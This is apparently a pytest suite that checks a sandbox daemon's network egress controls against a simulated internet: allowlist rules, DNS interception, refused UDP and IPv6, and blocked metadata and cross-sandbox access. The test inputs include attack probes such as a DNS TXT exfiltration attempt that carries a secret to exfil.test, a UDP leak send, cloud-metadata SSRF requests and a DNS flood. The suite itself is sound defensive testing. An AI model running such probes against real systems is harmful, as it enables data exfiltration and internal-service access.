"""Network egress against a fake internet (fakenet.py): runrad runs in the
test's own "router" namespace with dnsmasq on the fake internet as its
upstream, and sandboxes try, with real tools (curl, python sockets), every
way out the issue names. Each case checks both the outcome inside the
sandbox and, where it matters, what reached the fake internet."""

import base64
import json
import os
import socket
import struct
import subprocess
import time

import pytest

from conftest import finish_daemon, start_daemon
from fakenet import DNS_ADDR, FakeNet
from runra_client import TEST_BACKEND, VM


@pytest.fixture(scope="module")
def net():
    if os.geteuid() != 0:
        pytest.skip("needs root for network namespaces")
    for tool in ("dnsmasq", "openssl", "curl", "nsenter"):
        if not any(os.access(os.path.join(d, tool), os.X_OK)
                   for d in os.environ.get("PATH", "/usr/sbin:/usr/bin").split(":") + ["/usr/sbin"]):
            pytest.skip(f"{tool} is not installed")
    f = FakeNet().up()
    yield f
    f.down()


@pytest.fixture(scope="module")
def egress_daemon(net):
    d = start_daemon(["--dns", DNS_ADDR, "--net-range", "10.89.0.0/16"],
                     wrap=["nsenter", f"--net=/run/netns/{net.router}"])
    h = d.client.request("GET", "/v1/health").json()
    if not h["network"]["available"]:
        finish_daemon(d)
        raise AssertionError(f"runrad has no sandbox networking: {h['network']}")
    yield d
    finish_daemon(d)
    # SIGTERM took the daemon's firewall table and every sandbox veth along.
    tables = subprocess.run(["ip", "netns", "exec", net.router, "nft", "list", "tables"],
                            stdout=subprocess.PIPE).stdout.decode()
    links = subprocess.run(["ip", "netns", "exec", net.router, "ip", "-o", "link"],
                           stdout=subprocess.PIPE).stdout.decode()
    assert "runra_" not in tables, tables
    assert not [l for l in links.splitlines() if ": rr" in l and "rrup0" not in l], links


@pytest.fixture(scope="module")
def c(egress_daemon):
    return egress_daemon.client


def box(c, network):
    spec = {"network": network}
    if VM:
        spec["backend"] = TEST_BACKEND
    r = c.request("POST", "/v1/sandboxes", spec)
    assert r.status == 201, r
    return r.json()["id"]


def sh(c, sid, cmd, timeout_ms=30000):
    r = c.request("POST", f"/v1/sandboxes/{sid}/exec",
                  {"command": cmd, "timeoutMs": timeout_ms})
    assert r.status == 200, r
    j = r.json()
    return j["exitCode"], j["stdout"], j["stderr"]


def curl(c, sid, url, *flags, proxy=True):
    """curl inside the sandbox: (exit code, body). proxy=False ignores the
    proxy variables, as many tools do, so only the transparent path works."""
    extra = "" if proxy else " --noproxy '*'"
    code, out, err = sh(c, sid, f"curl -sS -k -m 10{extra} {' '.join(flags)} {url}")
    return code, out + err


def blocked(code, out):
    """curl did not get through: it failed, or the proxy answered 403."""
    return code != 0 or "runra: connection denied" in out


def denied(c, sid):
    r = c.request("GET", f"/v1/sandboxes/{sid}/network/denied")
    assert r.status == 200, r
    return r.json()["denied"]


@pytest.fixture(scope="module")
def allow_box(c):
    sid = box(c, {"mode": "allowlist",
                  "allow": ["allowed.test", "*.wild.test", "203.0.113.0/24:80"]})
    yield sid
    c.request("DELETE", f"/v1/sandboxes/{sid}")


@pytest.mark.parametrize("proxy", [True, False])
def test_allowed_domain_http_and_https(c, allow_box, proxy):
    code, out = curl(c, allow_box, "http://allowed.test/", proxy=proxy)
    assert code == 0 and "host=allowed.test addr=198.51.100.10" in out, out
    code, out = curl(c, allow_box, "https://allowed.test/", proxy=proxy)
    assert code == 0 and "host=allowed.test addr=198.51.100.10" in out, out


@pytest.mark.parametrize("proxy", [True, False])
def test_wildcard_covers_subdomains_only(c, allow_box, proxy):
    code, out = curl(c, allow_box, "http://sub.wild.test/", proxy=proxy)
    assert code == 0 and "host=sub.wild.test" in out, out
    code, out = curl(c, allow_box, "http://wild.test/", proxy=proxy)
    assert blocked(code, out), out


def test_denied_domain_gets_nxdomain_and_a_403(c, allow_box):
    code, out = curl(c, allow_box, "http://denied.test/", proxy=False)
    assert code == 6, out  # could not resolve
    # Even with the address handed in, the proxy refuses by name, quickly.
    t0 = time.monotonic()
    code, out = curl(c, allow_box, "http://denied.test/", "--resolve",
                     "denied.test:80:198.51.100.11", proxy=False)
    assert "403" in out or code == 22 or "runra" in out, out
    assert time.monotonic() - t0 < 5
    code, out = curl(c, allow_box, "-i http://denied.test/")  # through HTTP_PROXY
    assert "403" in out and "not in allowlist" in out, out
    reasons = [d for d in denied(c, allow_box) if d["name"] == "denied.test"]
    assert reasons and all(d["reason"] for d in reasons), reasons
    # Each denial is an audit event too.
    r = c.request("GET", f"/v1/events?sandbox={allow_box}&type=network.denied")
    evs = [json.loads(l) for l in r.body.decode().splitlines()]
    assert any(e["data"]["name"] == "denied.test" and e["data"]["reason"] for e in evs), evs


def test_raw_ip_not_allowed_is_refused_fast(c, allow_box):
    t0 = time.monotonic()
    code, out = curl(c, allow_box, "http://198.51.100.11/", proxy=False)
    assert blocked(code, out), out
    code, out, err = sh(c, allow_box, "python3 -c \"import socket;s=socket.create_connection(("
                                     "'198.51.100.11',2222),5);print(s.recv(100))\"")
    assert code != 0 and "banner" not in out, (out, err)
    assert time.monotonic() - t0 < 8


def test_cidr_and_port_rules(c, allow_box):
    code, out = curl(c, allow_box, "http://203.0.113.5/", proxy=False)
    assert code == 0 and "addr=203.0.113.5" in out, out
    # 203.0.113.0/24 is allowed on port 80 only.
    code, out = curl(c, allow_box, "https://203.0.113.5/", proxy=False)
    assert blocked(code, out), out
    d = [x for x in denied(c, allow_box) if x["ip"] == "203.0.113.5" and x["port"] == 443]
    assert d, denied(c, allow_box)


def test_sni_of_an_allowed_name_cannot_reach_a_denied_address(c, allow_box):
    # The client aims at the denied host's address but names allowed.test:
    # the proxy connects to where allowed.test resolves, never elsewhere.
    code, out = curl(c, allow_box, "https://allowed.test/", "--resolve",
                     "allowed.test:443:198.51.100.11", proxy=False)
    assert code == 0 and "addr=198.51.100.10" in out, out
    code, out = curl(c, allow_box, "http://allowed.test/", "--resolve",
                     "allowed.test:80:198.51.100.11", proxy=False)
    assert code == 0 and "addr=198.51.100.10" in out, out


def test_etc_hosts_pointing_an_allowed_name_at_a_denied_address(c, allow_box):
    # The sandbox's /etc/hosts is its own; root inside may rewrite it.
    code, out, err = sh(c, allow_box, "cp /etc/hosts /tmp/hosts.bak && "
                                     "echo '198.51.100.11 allowed.test' >> /etc/hosts && "
                                     "getent hosts allowed.test")
    try:
        assert code == 0 and "198.51.100.11" in out, (out, err)
        for url in ("http://allowed.test/", "https://allowed.test/"):
            code, out = curl(c, allow_box, url, proxy=False)
            assert code == 0 and "addr=198.51.100.10" in out, out
    finally:
        sh(c, allow_box, "cat /tmp/hosts.bak > /etc/hosts")


def dns_query(name, qtype):
    q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00" + struct.pack("!HH", qtype, 1)


PY_DNS = r'''
import socket, sys, base64
q = base64.b64decode(sys.argv[1])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.sendto(q, (sys.argv[2], 53))
a = s.recv(4096)
print(a[3] & 15, int.from_bytes(a[6:8], "big"))
'''


def sandbox_dns(c, sid, name, qtype, server):
    q = base64.b64encode(dns_query(name, qtype)).decode()
    c.request("PUT", f"/v1/sandboxes/{sid}/files?path=/tmp/dns.py", PY_DNS)
    code, out, err = sh(c, sid, f"python3 /tmp/dns.py {q} {server}")
    assert code == 0, (out, err)
    rcode, ancount = out.split()
    return int(rcode), int(ancount)


def test_dns_to_another_resolver_is_answered_by_policy(c, allow_box, net):
    # Straight to the fake internet's resolver: intercepted, answered by
    # runrad's resolver under the policy.
    assert sandbox_dns(c, allow_box, "allowed.test", 1, DNS_ADDR) == (0, 1)
    assert sandbox_dns(c, allow_box, "denied.test", 1, DNS_ADDR)[0] == 3
    assert sandbox_dns(c, allow_box, "denied.test", 1, "8.8.8.8")[0] == 3


def test_dns_txt_exfiltration_never_leaves(c, allow_box, net):
    secret = "s3cr3t-" + os.urandom(4).hex()
    rcode, n = sandbox_dns(c, allow_box, f"{secret}.exfil.test", 16, DNS_ADDR)
    assert rcode == 3 and n == 0
    # A TXT query for an allowed name gets no records either.
    assert sandbox_dns(c, allow_box, "txt.allowed.test", 16, DNS_ADDR)[1] == 0
    time.sleep(0.2)
    assert secret not in net.dns_queries()
    assert "txt.allowed.test" not in net.dns_queries()


def test_udp_is_refused_and_never_arrives(c, allow_box, net):
    code, out, err = sh(c, allow_box, "python3 -c \"import socket;s=socket.socket(2,2);"
                                     "s.connect(('198.51.100.10',9999));s.send(b'leak');"
                                     "s.settimeout(2);s.recv(10)\"")
    assert code != 0
    assert "ConnectionRefused" in err or "timed out" in err or "unreachable" in err.lower(), err
    time.sleep(0.3)
    assert b"leak" not in net.udp_seen("198.51.100.10")


def test_no_ipv6(c, allow_box):
    t0 = time.monotonic()
    code, out = curl(c, allow_box, "http://[2001:db8::1]/", proxy=False)
    assert code != 0
    assert time.monotonic() - t0 < 5


def test_host_loopback_and_gateway_services_are_unreachable(c, allow_box, net):
    srv = subprocess.Popen(["ip", "netns", "exec", net.router, "python3", "-c",
                            "import socket;s=socket.socket();s.setsockopt(1,2,1);"
                            "s.bind(('0.0.0.0',7777));s.listen();"
                            "c,_=s.accept();c.sendall(b'host-secret')"])
    try:
        time.sleep(0.3)
        gw = c.request("GET", f"/v1/sandboxes/{allow_box}/network").json()["gateway"]
        for target in ("127.0.0.1", gw, "198.18.0.1"):
            code, out, err = sh(c, allow_box, "python3 -c \"import socket;s=socket.create_connection(("
                                             f"'{target}',7777),3);print(s.recv(100))\"")
            assert "host-secret" not in out, (target, out)
    finally:
        srv.kill()
        srv.wait()


def test_metadata_address_is_denied_even_in_open_mode(c):
    sid = box(c, {"mode": "open"})
    try:
        code, out = curl(c, sid, "http://169.254.169.254/", proxy=False)
        assert "addr=169.254.169.254" not in out, out
        code, out = curl(c, sid, "-i http://169.254.169.254/")
        assert "403" in out and "addr=169" not in out, out
        # Open mode reaches the public fake internet...
        code, out = curl(c, sid, "http://denied.test/", proxy=False)
        assert code == 0 and "host=denied.test" in out, out
        # ... but not private ranges, even by a name that resolves there.
        code, out = curl(c, sid, "http://10.1.2.3/", "-m 3", proxy=False)
        assert "addr=" not in out, out
        code, out = curl(c, sid, "http://rebind.test/", proxy=False)
        assert blocked(code, out) and "addr=" not in out, out
        code, out = curl(c, sid, "http://meta.test/", proxy=False)
        assert blocked(code, out) and "addr=" not in out, out
    finally:
        c.request("DELETE", f"/v1/sandboxes/{sid}")


def test_another_sandbox_is_unreachable(c, allow_box):
    other = box(c, {"mode": "open"})
    try:
        addr = c.request("GET", f"/v1/sandboxes/{other}/network").json()["address"]
        c.request("POST", f"/v1/sandboxes/{other}/processes",
                  {"command": "python3 -m http.server 8080 --bind 0.0.0.0"})
        time.sleep(0.5)
        code, out = curl(c, allow_box, f"http://{addr}:8080/", "-m 3", proxy=False)
        assert blocked(code, out), out
        sid2 = box(c, {"mode": "open"})
        code, out = curl(c, sid2, f"http://{addr}:8080/", "-m 3", proxy=False)
        c.request("DELETE", f"/v1/sandboxes/{sid2}")
        assert blocked(code, out), out
    finally:
        c.request("DELETE", f"/v1/sandboxes/{other}")


def test_runtime_policy_change(c):
    sid = box(c, {"mode": "allowlist", "allow": ["allowed.test"]})
    try:
        assert blocked(*curl(c, sid, "http://denied.test/", proxy=False))
        r = c.request("PATCH", f"/v1/sandboxes/{sid}",
                      {"network": {"mode": "allowlist", "allow": ["allowed.test", "denied.test"]}})
        assert r.status == 200 and r.json()["network"]["allow"] == ["allowed.test", "denied.test"], r
        code, out = curl(c, sid, "http://denied.test/", proxy=False)
        assert code == 0 and "host=denied.test" in out, out
        r = c.request("PATCH", f"/v1/sandboxes/{sid}", {"network": {"mode": "none"}})
        assert r.status == 200, r
        assert blocked(*curl(c, sid, "http://allowed.test/", "-m 3", proxy=False))
        r = c.request("PATCH", f"/v1/sandboxes/{sid}",
                      {"network": {"mode": "allowlist", "allow": ["allowed.test"]}})
        assert r.status == 200, r
        code, out = curl(c, sid, "http://allowed.test/", proxy=False)
        assert code == 0, out
    finally:
        c.request("DELETE", f"/v1/sandboxes/{sid}")


def test_racing_policy_changes_leave_what_is_shown_enforced(c):
    """Two PATCHes at once (for a VM, one of them waits on its guest with
    the network lock let go): whichever the API shows afterwards is the one
    the proxy enforces."""
    import threading
    for _ in range(3):
        sid = box(c, {"mode": "none"})
        try:
            got = []
            bodies = [{"mode": "allowlist", "allow": ["allowed.test"]}, {"mode": "open"}]
            ts = [threading.Thread(target=lambda b=b: got.append(c.request(
                "PATCH", f"/v1/sandboxes/{sid}", {"network": b}).status)) for b in bodies]
            for t in ts:
                t.start()
            for t in ts:
                t.join(60)
            assert got and all(st in (200, 409) for st in got), got
            shown = c.request("GET", f"/v1/sandboxes/{sid}/network").json()["mode"]
            code, out = curl(c, sid, "http://denied.test/", proxy=False)
            if shown == "open":
                assert code == 0 and "host=denied.test" in out, (got, out)
            else:
                assert shown == "allowlist", shown
                assert blocked(code, out) and "host=denied.test" not in out, (got, out)
                code, out = curl(c, sid, "http://allowed.test/", proxy=False)
                assert code == 0 and "host=allowed.test" in out, (got, out)
        finally:
            c.request("DELETE", f"/v1/sandboxes/{sid}")


def test_network_survives_pause_and_resume(c):
    """A VM's pause ends its QEMU and the namespace its NIC was in; the
    resume must give it the same address and policy again."""
    sid = box(c, {"mode": "allowlist", "allow": ["allowed.test"]})
    try:
        before = c.request("GET", f"/v1/sandboxes/{sid}/network").json()
        code, out = curl(c, sid, "http://allowed.test/", proxy=False)
        assert code == 0 and "host=allowed.test" in out, out
        for _ in range(2):
            assert c.request("POST", f"/v1/sandboxes/{sid}/pause").status == 200
            assert c.request("POST", f"/v1/sandboxes/{sid}/resume").status == 200
        after = c.request("GET", f"/v1/sandboxes/{sid}/network").json()
        assert after["address"] == before["address"], (before, after)
        code, out = curl(c, sid, "http://allowed.test/", proxy=False)
        assert code == 0 and "host=allowed.test" in out, out
        code, out = curl(c, sid, "http://allowed.test/")
        assert code == 0 and "host=allowed.test" in out, out
        code, out = curl(c, sid, "http://denied.test/", proxy=False)
        assert blocked(code, out) and "host=denied.test" not in out, out
    finally:
        c.request("DELETE", f"/v1/sandboxes/{sid}")


def test_a_vm_guest_that_never_answers_stalls_only_its_own_network(c, allow_box, net):
    """A VM's guest takes its address when told (NET_CONFIG); a guest whose
    root took the protocol's port and says nothing gets an error on its own
    PATCH, and nobody else's network change waits for it."""
    if not VM:
        pytest.skip("a VM's guest only")
    import threading
    from test_vm import TAKEOVER
    sid = box(c, {"mode": "none"})
    try:
        r = c.request("PUT", f"/v1/sandboxes/{sid}/files?path=/tmp/takeover.sh",
                      TAKEOVER.replace("{payload}", "sleep 120").encode())
        assert r.status in (200, 201), r
        sh(c, sid, "(setsid sh /tmp/takeover.sh </dev/null >/dev/null 2>&1 &)")
        time.sleep(4)
        got = {}
        t = threading.Thread(target=lambda: got.update(r=c.request(
            "PATCH", f"/v1/sandboxes/{sid}", {"network": {"mode": "open"}})))
        t.start()
        time.sleep(1)
        # Meanwhile another sandbox's policy changes, and it is not held up
        # behind the silent guest (a network lock is not kept across a call).
        t0 = time.monotonic()
        r = c.request("PATCH", f"/v1/sandboxes/{allow_box}",
                      {"network": {"mode": "allowlist",
                                   "allow": ["allowed.test", "*.wild.test", "203.0.113.0/24:80"]}})
        assert r.status == 200, r
        assert time.monotonic() - t0 < 5
        t.join(60)
        assert not t.is_alive()
        assert got["r"].status >= 500, got["r"]
        # Nothing of the failed attach is left: still mode none, no veth.
        assert c.request("GET", f"/v1/sandboxes/{sid}/network").json()["mode"] == "none"
        links = subprocess.run(["ip", "netns", "exec", net.router, "ip", "-o", "link"],
                               stdout=subprocess.PIPE).stdout.decode()
        assert f"rr{sid[:12]}" not in links, links
        code, out = curl(c, allow_box, "http://allowed.test/", proxy=False)
        assert code == 0 and "host=allowed.test" in out, out
    finally:
        c.request("DELETE", f"/v1/sandboxes/{sid}")


def test_a_vms_bridge_learns_no_addresses(c, allow_box):
    """A VM's tap and veth are bridged in QEMU's namespace with learning
    off, so a guest sending from made-up MACs fills no table."""
    if not VM:
        pytest.skip("VMs only")
    from test_vm import sandbox_qemu
    pids = sandbox_qemu(allow_box)
    assert pids, "no QEMU for the sandbox"
    out = subprocess.run(["nsenter", f"--net=/proc/{pids[0]}/ns/net", "bridge", "-d", "link"],
                         stdout=subprocess.PIPE, text=True, check=True).stdout
    ports = [l for l in out.splitlines() if "master br0" in l]
    assert len(ports) == 2, out
    assert out.count("learning off") == 2, out


def test_proxy_variables_are_set_and_enforce_the_same_policy(c, allow_box):
    code, out, err = sh(c, allow_box, "echo $HTTP_PROXY $HTTPS_PROXY")
    assert out.startswith("http://10.89.") and ":3128" in out, out
    code, out = curl(c, allow_box, "https://allowed.test/")  # CONNECT through the proxy
    assert code == 0 and "addr=198.51.100.10" in out, out
    code, out = curl(c, allow_box, "https://denied.test/")
    assert blocked(code, out), out


def test_bad_policies_are_refused_and_change_nothing(c):
    before = c.request("GET", "/v1/sandboxes").json()["sandboxes"]
    for bad in ({"mode": "sometimes"}, {"mode": "allowlist", "allow": ["*."]},
                {"mode": "allowlist", "allow": ["10.0.0.0/33"]},
                {"mode": "allowlist", "allow": ["a.test:70000"]},
                {"mode": "allowlist", "allow": "a.test"}, {"mode": "open", "extra": 1},
                {"mode": "none", "allow": ["a.test"]}, "open"):
        r = c.request("POST", "/v1/sandboxes", {"network": bad})
        assert r.status == 400 and r.error_code == "invalid_argument", (bad, r)
    assert c.request("GET", "/v1/sandboxes").json()["sandboxes"] == before


def test_none_mode_has_loopback_only(c):
    sid = box(c, {"mode": "none"})
    try:
        code, out, err = sh(c, sid, "ls /sys/class/net")
        if VM:
            # A VM always has its NIC (its templates must fit every
            # sandbox), on a tap bridged to nothing: no address, no route.
            assert out.split() == ["eth0", "lo"], out
            code, out, err = sh(c, sid, "cat /proc/net/route; ip -4 -o addr 2>/dev/null || true")
            assert "eth0" not in out, out
            code, out, err = sh(c, sid, "python3 -c \"import socket;"
                                        "socket.create_connection(('198.51.100.1',80),3)\"")
            assert code != 0 and "unreachable" in err, (code, err)
        else:
            assert out.split() == ["lo"], out
        r = c.request("GET", f"/v1/sandboxes/{sid}/network")
        assert r.json() == {"mode": "none", "allow": [], "deny": []}, r
    finally:
        c.request("DELETE", f"/v1/sandboxes/{sid}")


def test_destroy_removes_the_veth(c, net):
    sid = box(c, {"mode": "open"})
    links = subprocess.run(["ip", "netns", "exec", net.router, "ip", "-o", "link"],
                           stdout=subprocess.PIPE).stdout.decode()
    assert f"rr{sid[:12]}" in links
    c.request("DELETE", f"/v1/sandboxes/{sid}")
    deadline = time.time() + 10
    while time.time() < deadline:
        links = subprocess.run(["ip", "netns", "exec", net.router, "ip", "-o", "link"],
                               stdout=subprocess.PIPE).stdout.decode()
        if f"rr{sid[:12]}" not in links:
            break
        time.sleep(0.1)
    assert f"rr{sid[:12]}" not in links


def test_cli_create_allow_net_show_change_and_denied(egress_daemon, c):
    from conftest import BUILD_DIR
    runra = os.path.join(BUILD_DIR, "src", "cli", "runra")
    env = dict(os.environ, RUNRA_NO_AUTOSTART="1")

    def run(*args):
        return subprocess.run([runra, "--socket", egress_daemon.socket, *args],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, timeout=60)

    p = run("create", "--allow", "allowed.test", "--allow", "203.0.113.0/24:80")
    assert p.returncode == 0, p
    sid = p.stdout.decode().strip()
    try:
        p = run("exec", sid, "--", "curl", "-s", "--noproxy", "*", "http://allowed.test/")
        assert p.returncode == 0 and b"host=allowed.test" in p.stdout, p
        p = run("exec", sid, "--", "curl", "-s", "-m", "5", "--noproxy", "*",
                "--resolve", "denied.test:80:198.51.100.11", "http://denied.test/")
        assert b"not in allowlist" in p.stdout, p
        p = run("net", sid)
        j = json.loads(p.stdout)
        assert j["mode"] == "allowlist" and j["allow"] == ["allowed.test", "203.0.113.0/24:80"], j
        assert j["address"].startswith("10.89.") and j["proxy"].endswith(":3128"), j
        p = run("net", sid, "--denied")
        assert p.returncode == 0 and b"denied.test" in p.stdout and b"not in allowlist" in p.stdout, p
        p = run("net", sid, "--mode", "open", "--deny", "allowed.test")
        assert p.returncode == 0 and json.loads(p.stdout)["mode"] == "open", p
        p = run("exec", sid, "--", "curl", "-s", "-m", "5", "--noproxy", "*", "http://denied.test/")
        assert b"host=denied.test" in p.stdout, p
        p = run("exec", sid, "--", "curl", "-s", "-m", "5", "--noproxy", "*",
                "--resolve", "allowed.test:80:198.51.100.10", "http://allowed.test/")
        assert b"denied by" in p.stdout or b"allowed.test" in p.stdout, p
        assert b"host=allowed.test" not in p.stdout, p
        p = run("net", sid, "--mode", "sometimes")
        assert p.returncode != 0 and b"mode" in p.stderr, p
        p = run("create", "--net", "bogus")
        assert p.returncode == 2, p
    finally:
        run("rm", sid)


def test_crashed_daemon_network_is_taken_back_at_restart(net):
    import signal as sig
    from conftest import BUILD_DIR, _live_daemons
    from runra_client import Daemon, wait_until
    wrap = ["nsenter", f"--net=/run/netns/{net.router}"]
    args = ["--dns", DNS_ADDR, "--net-range", "10.91.0.0/16"]

    def tables_now():
        out = subprocess.run(["ip", "netns", "exec", net.router, "nft", "list", "tables"],
                             stdout=subprocess.PIPE).stdout.decode()
        return {l.split()[-1] for l in out.splitlines() if "runra_" in l}

    def links():
        return subprocess.run(["ip", "netns", "exec", net.router, "ip", "-o", "link"],
                              stdout=subprocess.PIPE).stdout.decode()

    others = tables_now()  # the module's daemon has one too
    d = start_daemon(args, wrap=wrap)
    state = d.state_dir
    sid = box(d.client, {"mode": "allowlist", "allow": ["allowed.test"]})
    addr = d.client.request("GET", f"/v1/sandboxes/{sid}/network").json()["address"]
    d.proc.send_signal(sig.SIGKILL)
    d.proc.wait(10)
    d._log.close()
    _live_daemons.remove(d)

    mine = tables_now() - others
    assert len(mine) == 1  # the crashed daemon's table is still there
    d2 = Daemon(BUILD_DIR, state, args, wrap=wrap)
    d2.log_path = state + ".restart.stderr.log"
    _live_daemons.append(d2)
    try:
        d2.start()
        assert tables_now() - others == mine  # replaced, not added
        # The sandbox is back with its network: same address, same policy.
        assert d2.client.list_ids() == [sid]
        n = d2.client.request("GET", f"/v1/sandboxes/{sid}/network").json()
        assert n["address"] == addr and n["allow"] == ["allowed.test"], n
        code, out = curl(d2.client, sid, "http://allowed.test/", proxy=False)
        assert code == 0 and "host=allowed.test" in out, out
        code, out = curl(d2.client, sid, "http://denied.test/", proxy=False)
        assert "host=denied.test" not in out, out
        d2.client.destroy(sid)
        assert wait_until(lambda: f"rr{sid[:12]}" not in links(), 10), links()
        sid2 = box(d2.client, {"mode": "allowlist", "allow": ["allowed.test"]})
        code, out = curl(d2.client, sid2, "http://allowed.test/", proxy=False)
        assert code == 0 and "host=allowed.test" in out, out
    finally:
        finish_daemon(d2)
    assert tables_now() == others


def _cpu_ticks(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return int(fields[11]) + int(fields[12])


def test_a_half_closed_client_that_never_reads_costs_the_proxy_nothing(c, egress_daemon):
    sid = box(c, {"mode": "allowlist", "allow": ["allowed.test"]})
    try:
        c.request("POST", f"/v1/sandboxes/{sid}/processes", {"command": (
            # A small receive buffer: the answer (more than the proxy's
            # pipe holds) stays partly in the proxy, after the server has
            # sent it all and closed.
            "python3 -c \"import socket,time;s=socket.socket();"
            "s.setsockopt(socket.SOL_SOCKET,socket.SO_RCVBUF,4096);"
            "s.connect(('198.51.100.10',80));"
            "s.sendall(b'GET /bytes/1500000 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n');"
            "s.shutdown(socket.SHUT_WR);time.sleep(30)\"")})
        time.sleep(1.5)  # the answer fills the buffers; the server closes
        pid = egress_daemon.proc.pid
        t0 = _cpu_ticks(pid)
        time.sleep(2.0)
        used = (_cpu_ticks(pid) - t0) / os.sysconf("SC_CLK_TCK")
        assert used < 0.3, f"runrad burned {used:.2f} s of CPU in 2 s on one stuck connection"
    finally:
        c.request("DELETE", f"/v1/sandboxes/{sid}")


def test_a_flood_of_denials_is_rate_limited_in_the_trail(c):
    sid = box(c, {"mode": "allowlist", "allow": ["allowed.test"]})
    try:
        q = base64.b64encode(dns_query("flood.test", 1)).decode()
        c.request("PUT", f"/v1/sandboxes/{sid}/files?path=/tmp/flood.py", (
            "import socket,base64,sys\n"
            "q=base64.b64decode(sys.argv[1])\n"
            "s=socket.socket(2,2);s.settimeout(2)\n"
            "for i in range(300):\n"
            "    s.sendto(q,('192.0.2.53',53)); s.recv(512)\n"))
        code, out, err = sh(c, sid, f"python3 /tmp/flood.py {q}")
        assert code == 0, err
        r = c.request("GET", f"/v1/events?sandbox={sid}&type=network.denied")
        evs = [json.loads(l) for l in r.body.decode().splitlines()]
        assert 1 <= len(evs) <= 100, len(evs)
        # The per-sandbox record and the metric still count every one.
        assert len(denied(c, sid)) == 256
    finally:
        c.request("DELETE", f"/v1/sandboxes/{sid}")
